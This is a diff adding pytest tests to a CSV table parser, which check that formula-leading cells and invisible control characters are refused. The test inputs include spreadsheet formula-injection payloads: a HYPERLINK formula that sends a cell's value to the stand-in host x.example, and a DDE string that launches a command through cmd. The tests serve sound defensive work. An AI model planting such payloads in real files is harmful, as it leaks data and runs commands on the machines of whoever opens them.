@@ -169,3 +169,21 @@ def test_a_profile_that_is_misspelt_or_missing_is_named(heading: str, row: str, 
 def test_a_table_saved_by_a_spreadsheet_set_to_spanish_is_read_alike() -> None:
     plain = f"{HEADING}\n{ROW}\n{FORCED}\n"
     assert indicators.parse("x", "\ufeff" + plain.replace(",", ";")) == indicators.parse("x", plain)
+
+
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK(""http://x.example/?""&A2,""ver"")', "=cmd|' /C calc'!A0", " +1", "-1", "@a"]
+)
+def test_no_cell_of_a_table_is_a_formula_to_whoever_opens_it(cell: str) -> None:
+    for row in (ROW.replace("Engaño", f'"{cell}"'), f'{ROW},"{cell}"'):
+        with pytest.raises(FormError) as refused:
+            indicators.parse("x", f"{HEADING}\n{row}\n")
+        assert [(each.code, each.row) for each in refused.value.problems] == [("indicator_set.formula", 2)]
+
+
+@pytest.mark.parametrize("sign", ["\x1b", "\x9b", "\u202e", "\u200b"])
+def test_no_cell_of_a_table_holds_a_sign_that_a_reviewer_would_not_see(sign: str) -> None:
+    with pytest.raises(FormError) as refused:
+        indicators.parse("x", f"{HEADING}\n{ROW.replace('Engaño', f'Engaño{sign}[2K')}\n")
+    (problem,) = refused.value.problems
+    assert (problem.code, problem.row, problem.column) == ("indicator_set.unseen_sign", 2, "label_es")
